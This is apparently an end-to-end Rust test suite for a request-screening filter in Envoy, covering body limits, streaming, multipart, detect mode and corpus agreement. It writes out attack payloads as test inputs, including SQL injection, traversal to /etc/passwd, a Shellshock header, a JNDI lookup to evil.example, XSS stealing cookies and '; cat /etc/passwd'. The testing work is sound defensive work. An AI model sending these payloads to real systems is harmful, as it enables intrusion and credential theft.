//! End-to-end, in both runtimes: the screening filter in a real Envoy, in front of pavise-echo:
//! limits at the headers, streamed bodies, blocking in the body before the upstream sees
//! anything, detect mode, a bad policy, and a sample of the shared corpora compared with the
//! screening library's own decision.

// Tests fail by panicking.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use pavise_core::headers::HeaderList;
use pavise_screen::screen::{BodyDecision, BodyPlan, HeaderDecision, Screener};
use pavise_tests::envoy::{
    assert_refuses_to_start, bootstrap_on, bootstrap_yaml, upstream_saw, Echo, Envoy, FilterSpec,
    Runtime, Stack,
};
use pavise_tests::http::{get, send, send_in_pieces, send_raw, Response};
use std::net::SocketAddr;
use std::time::Duration;

const POLICY: &str = r#"{
  "limits": {"max_body_bytes": 4000, "inspect_body_bytes": 2000,
             "content_types": ["application/json", "application/x-www-form-urlencoded", "text/plain"]},
  "routes": [
    {"match": {"path_prefix": "/beta/"}, "mode": "detect"},
    {"match": {"path_prefix": "/posts"}, "exclusions": [{"location": "body:comment"}]}
  ]
}"#;

/// Bytes Envoy sent to the upstream so far.
fn sent_upstream(envoy: &Envoy) -> u64 {
    envoy.counter("envoy_cluster_upstream_cx_tx_bytes_total")
}

fn assert_refused(r: &Response, status: u16, code: &str) {
    assert_eq!(r.status, status, "{}", r.text());
    assert_eq!(r.json()["error"]["code"], code);
}

fn chunked_head(addr: SocketAddr, path: &str) -> Vec<u8> {
    format!(
        "POST {path} HTTP/1.1\r\nhost: {addr}\r\ncontent-type: text/plain\r\ntransfer-encoding: chunked\r\n\r\n"
    )
    .into_bytes()
}

fn chunk(data: &[u8]) -> Vec<u8> {
    let mut out = format!("{:x}\r\n", data.len()).into_bytes();
    out.extend_from_slice(data);
    out.extend_from_slice(b"\r\n");
    out
}

/// POSTs `chunks` as a chunked `text/plain` body to `path`, one chunk at a time with `pause`
/// between them, and reads the answer.
fn send_chunked(addr: SocketAddr, path: &str, chunks: &[&[u8]], pause: Duration) -> Response {
    let mut pieces: Vec<Vec<u8>> = vec![chunked_head(addr, path)];
    pieces.extend(chunks.iter().map(|c| chunk(c)));
    pieces.push(b"0\r\n\r\n".to_vec());
    let refs: Vec<&[u8]> = pieces.iter().map(Vec::as_slice).collect();
    send_in_pieces(addr, &refs, pause)
}

fn screening_in_envoy(runtime: Runtime) {
    let stack = Stack::start(runtime, &[FilterSpec::new("screen", POLICY)], &[]);
    let (addr, envoy) = (stack.addr(), &stack.envoy);

    // Clean requests pass, bodies included.
    upstream_saw(&get(addr, "/items?page=2&q=red+shoes", &[]));
    let seen = upstream_saw(&send(
        addr,
        "POST",
        "/items",
        &[("content-type", b"application/json")],
        Some(br#"{"name": "O'Reilly", "tags": ["a", "b"]}"#),
    ));
    assert_eq!(seen["body_bytes"], 40);

    // Findings at the headers: query, traversal.
    assert_refused(
        &get(addr, "/items?id=1%27%20OR%20%271%27%3D%271", &[]),
        403,
        "request_blocked",
    );
    assert_refused(
        &get(addr, "/download?file=..%2F..%2Fetc%2Fpasswd", &[]),
        403,
        "request_blocked",
    );
    assert_refused(
        &get(addr, "/", &[("user-agent", "() { :; }; /bin/bash -c 'id'")]),
        403,
        "request_blocked",
    );
    // The categories beyond those four are on by default: a JNDI lookup in a header the
    // policy does not list, template injection in the query; and prose with braces passes.
    assert_refused(
        &get(
            addr,
            "/",
            &[("x-api-version", "${jndi:ldap://evil.example/a}")],
        ),
        403,
        "request_blocked",
    );
    assert_refused(
        &get(addr, "/items?q=%7B%7B7*7%7D%7D", &[]),
        403,
        "request_blocked",
    );
    upstream_saw(&get(
        addr,
        "/items?q=Hello+%7B%7Bname%7D%7D",
        &[("x-note", "${PRICE}")],
    ));

    // 413 from Content-Length alone: the headers arrive, no body is sent, the answer comes.
    let r = send_raw(
        addr,
        format!("POST /upload HTTP/1.1\r\nhost: {addr}\r\ncontent-type: text/plain\r\ncontent-length: 10000000\r\n\r\n").as_bytes(),
    );
    assert_refused(&r, 413, "payload_too_large");

    // A malicious JSON body is blocked before the upstream sees any of it: Envoy sends the
    // upstream fewer bytes than these bodies alone.
    let before = sent_upstream(envoy);
    let padding = "x".repeat(1000);
    let body = format!(r#"{{"pad": "{padding}", "q": "1' UNION SELECT password FROM users--"}}"#);
    assert_refused(
        &send(
            addr,
            "POST",
            "/items",
            &[("content-type", b"application/json")],
            Some(body.as_bytes()),
        ),
        403,
        "request_blocked",
    );
    // Streamed: the attack is in the second chunk.
    let r = send_chunked(
        addr,
        "/comments",
        &[
            b"a perfectly normal start of a comment, ",
            b"then <script>alert(document.cookie)</script>",
        ],
        Duration::from_millis(50),
    );
    assert_refused(&r, 403, "request_blocked");
    // Streamed past the inspection limit (reject): 413 once 2000 bytes are held.
    let filler = vec![b'a'; 1500];
    let r = send_chunked(
        addr,
        "/comments",
        &[&filler, &filler, &filler],
        Duration::from_millis(50),
    );
    assert_refused(&r, 413, "payload_too_large");
    let sent = sent_upstream(envoy) - before;
    assert!(
        sent < 1000 + 3 * 1500,
        "{sent} bytes went upstream: headers only, no body"
    );

    // Exclusions: the comment field on /posts may hold markup, the title may not.
    upstream_saw(&send(
        addr,
        "POST",
        "/posts",
        &[("content-type", b"application/x-www-form-urlencoded")],
        Some(b"title=hi&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ));
    assert_refused(
        &send(
            addr,
            "POST",
            "/posts",
            &[("content-type", b"application/x-www-form-urlencoded")],
            Some(b"title=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        ),
        403,
        "request_blocked",
    );

    // Detect mode: through to the upstream, counted and logged.
    let seen = upstream_saw(&send(
        addr,
        "POST",
        "/beta/notes",
        &[("content-type", b"text/plain")],
        Some(b"<svg onload=alert(1)>"),
    ));
    assert_eq!(seen["body"], "<svg onload=alert(1)>");

    // Limits by content type.
    assert_refused(
        &send(
            addr,
            "POST",
            "/items",
            &[("content-type", b"application/xml")],
            Some(b"<a/>"),
        ),
        415,
        "unsupported_media_type",
    );

    assert_eq!(
        envoy.counter(r#"pavise_screen_findings_total{category="sqli",mode="block"}"#),
        2
    );
    assert_eq!(
        envoy.counter(r#"pavise_screen_findings_total{category="traversal",mode="block"}"#),
        1
    );
    assert_eq!(
        envoy.counter(r#"pavise_screen_findings_total{category="rce",mode="block"}"#),
        1
    );
    assert_eq!(
        envoy.counter(r#"pavise_screen_findings_total{category="xss",mode="block"}"#),
        2
    );
    assert_eq!(
        envoy.counter(r#"pavise_screen_findings_total{category="xss",mode="detect"}"#),
        1
    );
    assert_eq!(
        envoy.counter(r#"pavise_screen_findings_total{rule="sqli-001"}"#),
        2
    );
    assert_eq!(
        envoy.counter(r#"pavise_screen_limit_refusals_total{limit="body"}"#),
        1
    );
    assert_eq!(
        envoy.counter(r#"pavise_screen_limit_refusals_total{limit="inspection"}"#),
        1
    );
    assert_eq!(
        envoy.counter(r#"pavise_screen_limit_refusals_total{limit="content-type"}"#),
        1
    );
    assert_eq!(
        envoy.counter(r#"pavise_screen_findings_total{category="jndi",mode="block"}"#),
        1
    );
    assert_eq!(
        envoy.counter(r#"pavise_screen_findings_total{rule="jndi-001"}"#),
        1
    );
    assert_eq!(
        envoy.counter(r#"pavise_screen_findings_total{category="ssti",mode="block"}"#),
        1
    );
    assert_eq!(envoy.counter("pavise_screen_passed_total"), 4);
    assert_eq!(
        envoy.counter(r#"pavise_internal_errors_total{filter="screen"}"#),
        0
    );

    let lines = envoy.decision_lines("pavise.screen");
    let detect = lines
        .iter()
        .find(|l| l["decision"] == "detect")
        .expect("a detect line");
    assert_eq!(detect["rule_id"], "xss-001");
    assert_eq!(detect["location"], "body");
    assert_eq!(detect["path"], "/beta/notes");
    let blocked = lines
        .iter()
        .find(|l| l["location"] == "query:id")
        .expect("the sqli line");
    assert_eq!(blocked["decision"], "block");
    assert_eq!(blocked["reason"], "sqli");
}

fn a_streamed_body_over_the_limit_is_cut_off(runtime: Runtime) {
    // Without body rules the body is only counted and streams through; past the limit: 413.
    let policy = r#"{"limits": {"max_body_bytes": 3000}, "detect": {"body": false}}"#;
    let stack = Stack::start(runtime, &[FilterSpec::new("screen", policy)], &[]);
    let addr = stack.addr();
    let filler = vec![b'a'; 1200];
    let r = send_chunked(
        addr,
        "/upload",
        &[&filler, &filler, &filler, &filler],
        Duration::from_millis(50),
    );
    assert_refused(&r, 413, "payload_too_large");
    // Under the limit it streams through untouched.
    let r = send_chunked(
        addr,
        "/upload",
        &[&filler, &filler],
        Duration::from_millis(20),
    );
    assert_eq!(upstream_saw(&r)["body_bytes"], 2400);
}

/// A chunked body followed by trailers never ends in the body callback: it is inspected when
/// the trailers arrive, and a malicious one is refused there.
fn a_body_that_ends_with_trailers_is_still_inspected(runtime: Runtime) {
    let echo = Echo::start();
    let mut b = bootstrap_on(runtime, &[FilterSpec::new("screen", POLICY)], echo.addr);
    b.hcm_extra = "          http_protocol_options: { enable_trailers: true }\n".to_string();
    let envoy = Envoy::start(&bootstrap_yaml(&b), &[]);
    let addr = envoy.listener;
    let send_with_trailers = |body: &[u8]| {
        let mut raw = chunked_head(addr, "/comments");
        raw.extend(chunk(body));
        raw.extend_from_slice(b"0\r\nx-checksum: 1\r\n\r\n");
        send_in_pieces(addr, &[&raw], Duration::from_millis(10))
    };
    assert_refused(
        &send_with_trailers(b"hello <script>alert(1)</script>"),
        403,
        "request_blocked",
    );
    assert_eq!(
        upstream_saw(&send_with_trailers(b"hello world"))["body"],
        "hello world"
    );
}

/// The policy's paranoia level and `*` for headers reach the filter in Envoy: level 1 lets
/// the level-2 shapes through and leaves an unlisted header alone; level 2 with `*` refuses
/// them, and still never inspects the API key header.
fn paranoia_two_and_every_header_in_envoy(runtime: Runtime) {
    let level_two = ["/items?sort=id%20XOR%201", "/items?q=visudo"];
    let remote_ip = [("remote-ip", "<script>alert(1)</script>")];

    let stack = Stack::start(runtime, &[FilterSpec::new("screen", "{}")], &[]);
    for path in level_two {
        upstream_saw(&get(stack.addr(), path, &[]));
    }
    upstream_saw(&get(stack.addr(), "/", &remote_ip));
    drop(stack);

    let strict = r#"{"detect": {"paranoia": 2, "headers": ["*"]}}"#;
    let stack = Stack::start(runtime, &[FilterSpec::new("screen", strict)], &[]);
    for path in level_two {
        assert_refused(&get(stack.addr(), path, &[]), 403, "request_blocked");
    }
    assert_refused(&get(stack.addr(), "/", &remote_ip), 403, "request_blocked");
    upstream_saw(&get(stack.addr(), "/", &[("x-api-key", "1' or '1'='1")]));
}

/// A multipart body as browsers send it: `(name, filename, value)` per part.
fn multipart_body(boundary: &str, parts: &[(&str, Option<&str>, &str)]) -> Vec<u8> {
    let mut body = String::new();
    for (name, filename, value) in parts {
        body.push_str(&format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\""
        ));
        if let Some(f) = filename {
            body.push_str(&format!(
                "; filename=\"{f}\"\r\nContent-Type: application/octet-stream"
            ));
        }
        body.push_str(&format!("\r\n\r\n{value}\r\n"));
    }
    body.push_str(&format!("--{boundary}--\r\n"));
    body.into_bytes()
}

fn multipart_base64_and_browser_headers_in_envoy(runtime: Runtime) {
    let policy = r#"{"detect": {"headers": ["*"]}, "mode": "detect",
      "routes": [{"match": {"path_prefix": "/strict/"}, "mode": "block"}]}"#;
    let stack = Stack::start(runtime, &[FilterSpec::new("screen", policy)], &[]);
    let addr = stack.addr();
    let boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gW";
    let content_type = format!("multipart/form-data; boundary={boundary}");
    let post = |path: &str, body: &[u8]| {
        send(
            addr,
            "POST",
            path,
            &[("content-type", content_type.as_bytes())],
            Some(body),
        )
    };

    // A benign field after a line break, and a file whose content is skipped: the whole
    // body reaches the upstream.
    let benign = multipart_body(
        boundary,
        &[
            ("title", None, "Pack the tent."),
            ("note", None, "curl up with a good book"),
            ("upload", Some("notes.txt"), "hello; cat notes.txt"),
        ],
    );
    let seen = upstream_saw(&post("/strict/upload", &benign));
    assert_eq!(seen["body_bytes"], benign.len());
    // A command in one part is refused, and logged at that part.
    let attack = multipart_body(
        boundary,
        &[("title", None, "x"), ("cmd", None, "; cat /etc/passwd")],
    );
    assert_refused(&post("/strict/upload", &attack), 403, "request_blocked");
    // Not closed by its boundary: 400, the upstream never sees it.
    let mut unclosed = multipart_body(boundary, &[("a", None, "b")]);
    unclosed.truncate(unclosed.len() - boundary.len() - 6);
    assert_refused(
        &post("/strict/upload", &unclosed),
        400,
        "multipart_malformed",
    );
    assert_refused(
        &send(
            addr,
            "POST",
            "/strict/upload",
            &[("content-type", b"multipart/form-data")],
            Some(b"x"),
        ),
        400,
        "multipart_malformed",
    );

    // A base64 value decoding to markup, in detect mode: through, flagged at `(base64)`.
    upstream_saw(&get(
        addr,
        "/search?q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D",
        &[],
    ));
    assert_refused(
        &get(
            addr,
            "/strict/search?q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D",
            &[],
        ),
        403,
        "request_blocked",
    );

    // Every header inspected: Chrome's client hints and Accept pass; a custom header with a
    // payload does not.
    let chrome: [(&str, &str); 5] = [
        (
            "sec-ch-ua",
            r#""Chromium";v="130", "Google Chrome";v="130", "Not?A_Brand";v="99""#,
        ),
        ("sec-ch-ua-mobile", "?0"),
        ("sec-ch-ua-platform", "\"Linux\""),
        (
            "accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        ),
        ("accept-language", "en-US,en;q=0.9"),
    ];
    upstream_saw(&get(addr, "/strict/page", &chrome));
    assert_refused(
        &get(addr, "/strict/page", &[("x-custom", "' or 1=1--")]),
        403,
        "request_blocked",
    );

    let e = &stack.envoy;
    assert_eq!(
        e.counter(r#"pavise_screen_limit_refusals_total{limit="multipart"}"#),
        2
    );
    let locations: Vec<String> = e
        .decision_lines("pavise.screen")
        .iter()
        .filter_map(|l| l["location"].as_str().map(String::from))
        .collect();
    for expected in ["body:cmd", "query:q (base64)", "header:x-custom"] {
        assert!(
            locations.iter().any(|l| l == expected),
            "{expected} not in {locations:?}"
        );
    }
}

fn bad_screen_policy_stops_envoy_with_the_json_path(runtime: Runtime) {
    assert_refuses_to_start(
        runtime,
        &[FilterSpec::new(
            "screen",
            r#"{"routes": [{"exclusions": [{"rule": "sqli-999"}]}]}"#,
        )],
        "$.routes[0].exclusions[0].rule: unknown rule 'sqli-999'",
    );
}

/// A sample of the shared corpora through Envoy: the filter (the `.wasm` or the native module)
/// decides as the screening library does when called directly, under the example policy
/// (paranoia level 1) and the strict example (level 2). The strict run also sends rows that
/// only level 2 refuses in the library, so its own rules are seen to run in Envoy; it refuses
/// all that the example refuses, and those.
fn corpus_sample_decides_in_envoy_as_the_library_does(runtime: Runtime) {
    let example = policy_text("screen.example.json");
    let level_one = corpus_sample_in_envoy(runtime, &example, &example);
    let level_two = corpus_sample_in_envoy(
        runtime,
        &policy_text("screen.strict.example.json"),
        &example,
    );
    let not_at_two: Vec<_> = level_one.difference(&level_two).collect();
    assert!(
        not_at_two.is_empty(),
        "refused at level 1 only: {not_at_two:?}"
    );
    let beyond = level_two.len() - level_one.len();
    assert!(
        beyond >= 10,
        "level 2 refused only {beyond} more rows than level 1"
    );
}

fn policy_text(file: &str) -> String {
    std::fs::read_to_string(pavise_tests::workspace_root().join("policies").join(file)).unwrap()
}

/// A corpus row's request, as the screening library sees it and as it is sent to Envoy.
struct SampleRequest<'a> {
    uri: &'a str,
    headers: Vec<(&'a str, &'a [u8])>,
}

impl<'a> SampleRequest<'a> {
    /// GET rows without a body whose request line and headers Envoy takes as they are: a
    /// header value with a control character (a bare CR, a line feed) is rejected or rewritten
    /// by Envoy's HTTP/1 codec before any filter sees it, so the row says nothing about the
    /// filter there.
    fn of(row: &'a serde_json::Value) -> Option<Self> {
        let uri = row["uri"].as_str().unwrap_or_default();
        if row["method"] != "GET"
            || !row["body"].is_null()
            || !uri.is_ascii()
            || uri.contains(' ')
            || uri.contains("%2F")
            || uri.contains("%2f")
        {
            return None;
        }
        let mut headers = Vec::new();
        if let Some(obj) = row["headers"].as_object() {
            for (n, v) in obj {
                let v = v.as_str().unwrap_or_default();
                if v.bytes().any(|b| b.is_ascii_control() && b != b'\t') {
                    return None;
                }
                if !n.eq_ignore_ascii_case("host") && v.is_ascii() {
                    headers.push((n.as_str(), v.as_bytes()));
                }
            }
        }
        Some(SampleRequest { uri, headers })
    }

    /// The status the screening library answers with, called directly, or `None` when it lets
    /// the request on.
    fn in_library(&self, screener: &Screener) -> Option<u16> {
        let mut pairs = vec![
            (":method".to_string(), b"GET".to_vec()),
            (":path".to_string(), self.uri.as_bytes().to_vec()),
        ];
        for (n, v) in &self.headers {
            pairs.push((n.to_ascii_lowercase(), v.to_vec()));
        }
        match screener.screen_headers(&HeaderList::new(pairs), false) {
            HeaderDecision::Refuse(r) => Some(r.denial().status),
            HeaderDecision::Pass {
                body: BodyPlan::Inspect(k),
                route,
                mode,
                ..
            } => match screener.screen_body(k, b"", true, route, mode) {
                BodyDecision::Refuse(r) => Some(r.denial().status),
                BodyDecision::Pass { .. } => None,
            },
            HeaderDecision::Pass { .. } => None,
        }
    }
}

/// One sampled corpus row: what is sent, and what the library decided.
struct SampledRow {
    id: String,
    uri: String,
    headers: Vec<(String, Vec<u8>)>,
    /// The library's status, `None` when it lets the request on.
    expected: Option<u16>,
}

/// The library's decisions on every 100th GET row without a body under `policy`, and on up to
/// 40 rows more on which `policy` and `baseline` decide differently. Computed once per test
/// run and shared by both runtimes' tests (the library's part is most of the cost).
fn sampled_rows(policy: &str, baseline: &str) -> std::sync::Arc<Vec<SampledRow>> {
    type Cell = std::sync::Arc<std::sync::OnceLock<std::sync::Arc<Vec<SampledRow>>>>;
    static SAMPLES: std::sync::Mutex<Vec<((String, String), Cell)>> =
        std::sync::Mutex::new(Vec::new());
    let key = (policy.to_string(), baseline.to_string());
    let cell = {
        let mut samples = SAMPLES.lock().unwrap_or_else(|e| e.into_inner());
        match samples.iter().find(|(k, _)| *k == key) {
            Some((_, cell)) => cell.clone(),
            None => {
                let cell = Cell::default();
                samples.push((key, cell.clone()));
                cell
            }
        }
    };
    cell.get_or_init(|| std::sync::Arc::new(sample_in_library(policy, baseline)))
        .clone()
}

fn sample_in_library(policy: &str, baseline: &str) -> Vec<SampledRow> {
    let same_policy = policy == baseline;
    let screener = Screener::from_json(policy.as_bytes()).unwrap();
    let baseline = Screener::from_json(baseline.as_bytes()).unwrap();
    let corpora = pavise_tests::shared_corpora();
    let mut differing = 0;
    let mut rows = Vec::new();
    for file in ["libinjection.jsonl", "crs.jsonl"] {
        let path = corpora.join(file);
        let text = std::fs::read_to_string(&path).unwrap_or_else(|e| {
            panic!(
                "{}: {e}; the shared corpora live next to the repository (PAVISE_CORPORA=DIR \
                 points elsewhere)",
                path.display()
            )
        });
        for (i, line) in text.lines().enumerate() {
            let row: serde_json::Value = serde_json::from_str(line).unwrap();
            let Some(request) = SampleRequest::of(&row) else {
                continue;
            };
            if i % 100 != 0 && (same_policy || differing >= 40) {
                continue;
            }
            let expected = request.in_library(&screener);
            if i % 100 != 0 {
                if expected == request.in_library(&baseline) {
                    continue;
                }
                differing += 1;
            }
            rows.push(SampledRow {
                id: row["id"].as_str().unwrap_or_default().to_string(),
                uri: request.uri.to_string(),
                headers: request
                    .headers
                    .iter()
                    .map(|(n, v)| (n.to_string(), v.to_vec()))
                    .collect(),
                expected,
            });
        }
    }
    rows
}

/// Sends the sampled rows ([`sampled_rows`]) through Envoy (the filter of `runtime`) under
/// `policy`, checks each decision against the library's, and returns the ids of the rows
/// refused.
fn corpus_sample_in_envoy(
    runtime: Runtime,
    policy: &str,
    baseline: &str,
) -> std::collections::BTreeSet<String> {
    let rows = sampled_rows(policy, baseline);
    let stack = Stack::start(runtime, &[FilterSpec::new("screen", policy)], &[]);
    let mut compared = 0;
    let mut blocked = std::collections::BTreeSet::new();
    for row in rows.iter() {
        let headers: Vec<(&str, &[u8])> = row
            .headers
            .iter()
            .map(|(n, v)| (n.as_str(), v.as_slice()))
            .collect();
        let r = send(stack.addr(), "GET", &row.uri, &headers, None);
        if r.status == 400 {
            continue; // Envoy refused the request line itself, before any filter.
        }
        match row.expected {
            Some(status) => {
                assert_eq!(
                    r.status, status,
                    "{}: library {status}, Envoy {}",
                    row.id, r.status
                );
                blocked.insert(row.id.clone());
            }
            None => assert_eq!(
                r.status,
                200,
                "{}: library pass, Envoy {}: {}",
                row.id,
                r.status,
                r.text()
            ),
        }
        compared += 1;
    }
    assert!(compared >= 100, "only {compared} rows compared");
    assert!(blocked.len() >= 50, "only {} blocked", blocked.len());
    blocked
}

pavise_tests::for_each_runtime!(
    screening_in_envoy,
    a_streamed_body_over_the_limit_is_cut_off,
    a_body_that_ends_with_trailers_is_still_inspected,
    paranoia_two_and_every_header_in_envoy,
    multipart_base64_and_browser_headers_in_envoy,
    bad_screen_policy_stops_envoy_with_the_json_path,
    corpus_sample_decides_in_envoy_as_the_library_does
);
